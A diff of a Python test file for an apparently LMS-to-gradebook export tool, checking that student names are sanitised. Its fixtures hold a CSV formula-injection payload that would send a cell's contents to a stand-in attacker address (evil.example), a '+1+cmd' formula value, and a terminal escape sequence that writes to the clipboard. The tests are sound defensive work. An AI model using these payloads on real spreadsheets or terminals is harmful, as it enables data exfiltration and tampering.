@@ -78,15 +78,15 @@ def test_gradescope_results_have_a_leaderboard_entry_for_a_correct_submission_on
     assert bob["leaderboard"] == []
 
 
-def test_a_name_written_as_a_spreadsheet_formula_is_text_in_every_gradebook_and_the_ids_are_untouched(fake_kit,
-                                                                                                   tmp_path):
+def test_a_name_written_as_a_spreadsheet_formula_or_with_escape_sequences_is_text_in_every_gradebook_and_report(
+        fake_kit, tmp_path, capsys):
     # An LMS lets a student set the name the class download carries (Moodle's profile, Gradescope's
     # account). A gradebook cell that starts with =, +, - or @ is a formula to the spreadsheet a TA opens
     # it in: this one would send the row's next cell to another site on a click.
     formula = '=HYPERLINK("mailto:x@evil.example?subject="&C2,"grades")'
     subs, out = tmp_path / "lms", tmp_path / "out"
     for name, uid, flaw in ((formula, "4242", "reference"), ("+1+cmd", "4343", "no_bounds_check"),
-                            ("Jo Bloggs", "4444", "reference")):
+                            ("Jo Bloggs", "4444", "reference"), ("Eve\x1b]52;c;cm0K\x07", "4545", "reference")):
         (subs / f"{name}_{uid}_assignsubmission_file_").mkdir(parents=True)
         (subs / f"{name}_{uid}_assignsubmission_file_" / "trmm_kernel.cu").write_text(kernel(flaw))
     assert batch.main(args(subs, out)) == 0
@@ -95,6 +95,11 @@ def test_a_name_written_as_a_spreadsheet_formula_is_text_in_every_gradebook_and_
         cells = [c for r in rows[1:] for c in r]
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], (book, rows)
         assert "'" + formula in cells and "'+1+cmd" in cells and "Jo Bloggs" in cells, (book, rows)
+        assert "Eve\\x1b]52;c;cm0K\\x07" in cells and not [c for c in cells if "\x1b" in c], (book, rows)
+    shown = capsys.readouterr()
+    for text in (shown.out, shown.err, *(f.read_text() for f in (out / "reports").glob("*.*")),
+                 (out / "summary.md").read_text()):
+        assert "\x1b" not in text and "\x07" not in text
     moodle = list(csv.reader((out / "gradebook-moodle.csv").open()))
-    assert sorted(r[0] for r in moodle[1:]) == ["4242", "4343", "4444"]
+    assert sorted(r[0] for r in moodle[1:]) == ["4242", "4343", "4444", "4545"]
     assert {r[0]: r[3] for r in moodle[1:]}["4242"] == "100"
